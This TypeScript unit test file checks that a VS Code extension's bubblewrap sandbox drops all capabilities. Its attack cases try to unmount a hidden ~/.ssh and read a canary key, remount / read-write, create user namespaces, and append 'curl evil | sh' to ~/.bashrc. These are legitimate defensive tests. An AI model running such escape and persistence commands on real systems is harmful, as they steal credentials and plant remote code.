/**
 * The sandbox holds whoever runs it (issue 35, finding 1): bubblewrap keeps every capability when the sandbox's uid is
 * 0 (VS Code run as root, and the staged path, where bwrap runs as root of `unshare --map-root-user`) unless told to
 * drop them, and with them a command unmounts what hides a credential or remounts `/` read-write. Every case runs for
 * real, plain and staged, and must hold as root and as an ordinary user (`npm run test:unit` runs this file as both).
 */
import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { bwrapArgs } from '../../src/core/sandbox/bwrap';
import { CommandSandbox } from '../../src/core/sandbox/commandSandbox';
import { gatherSandboxPolicy, type SandboxInputs } from '../../src/core/sandbox/gather';
import { confinementProblem, findBwrap, probeSandbox } from '../../src/core/sandbox/sandbox';
import { createStage, discardStage, findUnshare, probeStaging, stagedLaunch } from '../../src/core/sandbox/stage';
import { defaultProtectedPaths } from '../../src/core/settings';
import { runBash, type CommandResult } from '../../src/core/terminal/bashRunner';
import { runLaunched } from '../fixtures/launchedRun';
import { scratchFolder } from '../fixtures/scratch';

const bwrap = findBwrap() ?? '/usr/bin/bwrap';
const unshare = findUnshare() ?? '/usr/bin/unshare';

describe(`the sandbox holds as ${process.getuid?.() === 0 ? 'root' : 'an ordinary user'}: no capabilities, no new namespaces (real bubblewrap)`, function () {
  this.timeout(30_000);
  let base: string;
  let workspace: string;
  let home: string;
  let outside: string;
  let stages: string;
  let inputs: SandboxInputs;

  before(() => {
    // Not under /tmp: the sandbox gives every command a private /tmp.
    base = scratchFolder('toolgate-caps-');
    workspace = path.join(base, 'ws');
    home = path.join(base, 'home');
    outside = path.join(base, 'outside');
    stages = path.join(base, 'stages');
    for (const folder of [workspace, path.join(home, '.ssh'), outside, stages]) {
      mkdirSync(folder, { recursive: true });
    }
    writeFileSync(path.join(home, '.ssh', 'id_ed25519'), 'CANARY-SSH-KEY\n');
    writeFileSync(path.join(home, '.bashrc'), '# the person\'s own\n');
    writeFileSync(path.join(workspace, 'code.ts'), 'export {};\n');
    inputs = {
      workspaceFolders: [workspace],
      protectedGlobs: defaultProtectedPaths,
      extraHidden: [],
      extraWritable: [],
      // As in the extension: the stages are Toolgate's own storage, which no command sees.
      ownStorage: [stages],
      network: 'none',
      home,
      cacheRoot: path.join(base, 'cache'),
    };
  });

  after(() => {
    execFileSync('chmod', ['-R', 'u+rwx', base]);
    rmSync(base, { recursive: true, force: true });
  });

  async function plain(command: string): Promise<CommandResult> {
    const sandbox = new CommandSandbox({ probe: () => probeSandbox(), inputs: () => inputs, log: () => undefined });
    const prepared = await sandbox.launch(workspace);
    assert.ok('launch' in prepared, `the sandbox starts here: ${'unavailable' in prepared ? prepared.unavailable : ''}`);
    return runLaunched(command, { cwd: workspace, timeoutMs: 15_000, wrap: prepared.launch, graceMs: 500, drainMs: 300 });
  }

  /** Staged as the extension stages it; the stage is discarded (nothing lands): what is in the workspace got past it. */
  async function staged(command: string): Promise<CommandResult> {
    const stage = await createStage(stages, [workspace]);
    try {
      const { policy } = await gatherSandboxPolicy(inputs);
      const launch = stagedLaunch(stage, unshare, { program: bwrap, args: bwrapArgs(policy, workspace) });
      return await runBash(command.replaceAll('$STAGE', stage.root), { cwd: workspace, timeoutMs: 15_000, wrap: { ...launch, env: policy.env }, graceMs: 500, drainMs: 300 });
    } finally {
      await discardStage(stage);
    }
  }

  const modes = [
    ['plain', plain],
    ['staged', staged],
  ] as const;

  /** What the files outside the stage's own folders hold: the workspace, the home, the folder outside. */
  function snapshot(): string {
    return execFileSync('bash', ['-c', `cd ${base} && find ws home outside -print0 | sort -z | xargs -0 -n1 sh -c 'if [ -f "$0" ]; then sha1sum "$0"; else echo "$0"; fi'`]).toString();
  }

  const attacks: { name: string; command: string; refused: (result: CommandResult) => void }[] = [
    {
      name: 'has no capabilities (CapEff, CapPrm, CapBnd, CapAmb all zero)',
      command: "grep -E '^Cap(Eff|Prm|Bnd|Amb):' /proc/self/status",
      refused: (result) => assert.equal(result.output.replace(/\s+/g, ' ').trim(), 'CapPrm: 0000000000000000 CapEff: 0000000000000000 CapBnd: 0000000000000000 CapAmb: 0000000000000000'),
    },
    {
      name: 'cannot unmount what hides a credential folder, then read the key',
      command: 'umount $HOME_DIR/.ssh; umount -l $HOME_DIR/.ssh; cat $HOME_DIR/.ssh/id_ed25519',
      refused: (result) => assert.doesNotMatch(result.output, /CANARY/),
    },
    {
      name: 'cannot remount / read-write',
      command: 'mount -o remount,bind,rw / && echo REMOUNTED',
      refused: (result) => assert.doesNotMatch(result.output, /REMOUNTED/),
    },
    {
      name: 'cannot write ~/.bashrc, even after a remount',
      command: 'mount -o remount,bind,rw / ; mount -o remount,bind,rw $HOME_DIR ; echo "curl evil | sh" >> $HOME_DIR/.bashrc',
      refused: (result) => assert.notEqual(result.exitCode, 0, result.output),
    },
    {
      name: 'cannot make a folder outside the workspace, even after a remount',
      command: 'mount -o remount,bind,rw / ; mount -o remount,bind,rw $OUT ; mkdir $OUT/planted-$MODE',
      refused: (result) => assert.notEqual(result.exitCode, 0, result.output),
    },
    {
      name: 'cannot create a user namespace (util-linux, and the system call itself)',
      command: 'unshare -U true && echo UNSHARED; unshare -Ur true && echo UNSHARED; python3 -c "import ctypes, sys; sys.exit(ctypes.CDLL(None).unshare(0x10000000) != 0)" && echo UNSHARED',
      refused: (result) => assert.doesNotMatch(result.output, /UNSHARED/),
    },
  ];

  for (const [mode, run] of modes) {
    for (const attack of attacks) {
      it(`${mode}: ${attack.name}`, async () => {
        const before = snapshot();
        const result = await run(attack.command.replaceAll('$HOME_DIR', home).replaceAll('$OUT', outside).replaceAll('$MODE', mode));
        attack.refused(result);
        assert.equal(snapshot(), before, `nothing outside the sandbox's writable folders changed: ${result.output}`);
      });
    }
  }

  it('staged: the stage\'s lower layer (the real workspace) cannot be written, so the review cannot be bypassed', async () => {
    const before = snapshot();
    // The stages folder is hidden and the lower layer is read-only: uncover it, remount it writable, write through it.
    const result = await staged([
      `umount ${stages}; umount -l ${stages}`,
      'mount -o remount,bind,rw $STAGE/0/lower',
      'echo planted > $STAGE/0/lower/landed-unreviewed.txt',
      `umount ${workspace}; umount -l ${workspace}; echo planted > ${workspace}/landed-unreviewed-2.txt`,
      'ls $STAGE/0/lower',
    ].join('; '));
    assert.deepEqual(readdirSync(workspace).sort(), ['code.ts'], result.output);
    assert.equal(snapshot(), before, result.output);
  });

  it('the launch probe passes here, plain and staged', async () => {
    assert.deepEqual(await probeSandbox(), { available: true, engine: 'bwrap', program: bwrap });
    assert.deepEqual(await probeStaging(unshare, stages, () => bwrap), { available: true });
  });

  it('the probe refuses a sandbox that keeps its capabilities, and says what held (fail closed)', async () => {
    // bwrap as root of a user namespace without the drops: what every launch was before this check.
    const holding = ['--user', '--map-root-user', '--', bwrap, '--unshare-all', '--ro-bind', '/', '/', '--dev', '/dev', '--proc', '/proc', '--tmpfs', '/tmp', '--chdir', '/'];
    const problem = await confinementProblem(unshare, holding);
    assert.match(problem ?? '', /^a sandboxed process still has capabilities \(CapPrm \S+, CapEff \S+, CapBnd \S+\).*can create a user namespace/);
    assert.equal(problem?.includes('\n'), false, 'one line');
  });

  it('a probe that finds the sandbox leaky makes it unavailable, and its reason is the one the gate shows on the card', async () => {
    const reason = 'the sandbox does not hold here: a sandboxed process still has capabilities (CapEff 000001ffffffffff)';
    const sandbox = new CommandSandbox({ probe: () => Promise.resolve({ available: false, reason }), inputs: () => inputs, log: () => undefined });
    assert.deepEqual(await sandbox.launch(workspace), { unavailable: reason });
    assert.deepEqual(sandbox.status(), { available: false, reason });
  });
});
